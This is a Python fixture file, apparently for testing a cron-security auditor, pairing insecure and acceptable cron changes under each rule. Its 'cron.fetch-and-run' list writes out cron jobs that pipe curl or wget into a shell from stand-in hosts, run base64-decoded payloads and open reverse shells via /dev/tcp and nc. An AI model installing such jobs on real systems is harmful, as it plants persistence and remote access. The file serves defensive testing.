# SPDX-License-Identifier: Apache-2.0
"""How the rules of cron come to fail. README.md says how to read this."""

GOOD = """
useradd -m -s /bin/bash dev
install -m 640 -g crontab /dev/null /etc/cron.allow
chmod 600 /etc/crontab
chmod 700 /etc/cron.d /etc/cron.hourly /etc/cron.daily /etc/cron.weekly /etc/cron.monthly
install -d /opt/tool
printf '#!/bin/sh\\n' >/opt/tool/run.sh
chmod 755 /opt/tool/run.sh
"""


def job(command, user="root"):
    """A line in cron.d."""
    text = f"*/7 * * * * {user} {command}".replace("'", "'\\''")
    return f"add /etc/cron.d/x$own '{text}'"


def tab(command, user):
    """A crontab of the user's own, as crontab(1) leaves it."""
    text = f"MAILTO=x\n@reboot {command}".replace("'", "'\\''")
    return f"""put /var/spool/cron/crontabs/{user} '{text}'
    chown {user}:crontab /var/spool/cron/crontabs/{user}; chmod 600 /var/spool/cron/crontabs/{user}"""


RULES = {
    "cron.allow": {"bad": [
        "rm /etc/cron.allow",
        "chmod 644 /etc/cron.allow",
        "chown dev /etc/cron.allow",
        "chgrp dev /etc/cron.allow",
        "rm /etc/cron.allow; touch /etc/cron.deny",
        "mv /etc/cron.allow /opt/allow; ln -s /opt/allow /etc/cron.allow; chmod 666 /opt/allow",
    ]},
    "cron.at-allow": {
        # The package brings more than its name: only that is needed here.
        "good": """printf 'Package: at\\nStatus: install ok installed\\nArchitecture: amd64\\nVersion: 3.2.5-1\\n\\n' \\
        >>/var/lib/dpkg/status
        install -m 640 -g daemon /dev/null /etc/at.allow""",
        "bad": ["rm /etc/at.allow", "chmod 660 /etc/at.allow", "chown daemon /etc/at.allow",
                "rm /etc/at.allow; touch /etc/at.deny"],
    },
    "cron.daemon": {
        "bad": ["systemctl disable --now cron", "systemctl mask --now cron", "systemctl stop cron"],
        "undo": "systemctl unmask cron; systemctl enable --now cron",
    },
    "cron.fetch-and-run": {"bad": [
        job("curl -fsSL http://198.51.100.7/x.sh | bash"),
        tab("wget -qO- 198.51.100.7/x|sh", "dev"),
        job("/usr/bin/curl -s http://x.example/a | sudo -E /bin/bash -s --"),
        job('bash -c "$(curl -fsSL https://x.example/a)"'),
        job("sh -c `wget -qO- x.example`"),
        job("eval $(curl -s x.example)"),
        job(". <(wget -O- x.example/a)"),
        job("curl -s x.example -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"),
        job("wget -q x.example/a -O /dev/shm/a; sh /dev/shm/a", "dev"),
        job("echo aGVsbG8K | base64 -d | bash"),
        job("curl -s x.example | base64 -d | python3 -"),
        job("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        job("nc 198.51.100.7 4444 | sh"),
        "add /etc/crontab '17 * * * * root curl x.example | sh'",
        tab("curl x.example | env -i nohup dash", "root"),
        "add /etc/anacrontab '1 5 x curl -s x.example | sh'",
    ], "fine": [
        job("curl -fsS -m 10 https://hc.example.org/ping >/dev/null", "dev"),
        job("curl -s https://x.example/list.sh | sha256sum >/var/lib/list.sh"),
        job("wget -q -O /var/lib/geo.csv https://x.example/geo.csv && systemctl reload nginx"),
        job("curl -s https://x.example | grep -c bash"),
    ]},
    "cron.files-private": {"bad": [
        "chmod 644 /etc/crontab", "chmod 755 /etc/cron.d", "chmod 711 /etc/cron.daily",
        "chmod 750 /etc/cron.weekly", "chmod 710 /etc/cron.monthly", "chmod 701 /etc/cron.hourly",
    ]},
    "cron.program-in-tmp": {"alone": True, "bad": [
        job("/tmp/.x/run", "dev"),
        tab("cd / && /dev/shm/kdevtmpfsi >/dev/null", "dev"),
        job("/bin/sh /var/tmp/a.sh"),
        job("nohup /tmp/x &"),
    ], "fine": [job("/usr/bin/find /tmp -mtime +7 -delete"),
                job("/usr/bin/test -f /tmp/flag && /usr/bin/true"),
                job("/usr/bin/pg_dump app >/var/tmp/app.sql", "dev"),
                job("/usr/bin/rm -rf /var/tmp/cache/old")]},
    "cron.root-runs-writable": {"alone": True, "bad": [
        job("/opt/tool/run.sh") + "; chmod 775 /opt/tool/run.sh",
        job("/opt/tool/run.sh") + "; chown dev /opt/tool/run.sh",
        job("/opt/tool/run.sh") + "; chown dev /opt/tool",
        job("/opt/tool/run.sh") + "; usermod -aG users dev; chgrp users /opt; chmod 775 /opt",
        job("cd /opt/tool && ./run.sh") + "; chown dev /opt/tool",
        job("test -x /usr/bin/true && nice -n 19 /bin/sh /opt/tool/run.sh >/dev/null")
        + "; chown dev /opt/tool/run.sh",
        tab("/home/dev/backup.sh", "root"),
        tab("/usr/bin/python3 /opt/tool/x.py",
            "root") + "; touch /opt/tool/x.py; chown dev /opt/tool/x.py",
        "rm /opt/tool/run.sh; ln -s /home/dev/run /opt/tool/run.sh\n"
        "install -o dev -m 755 /bin/true /home/dev/run; " + job("/opt/tool/run.sh"),
        job("/var/tmp/clean"),
    ],
    "fine": [job("/opt/tool/run.sh"),
             job("/opt/tool/run.sh", "dev") + "; chown dev /opt/tool/run.sh",
                job("cd /opt/tool && ./run.sh")]},
}
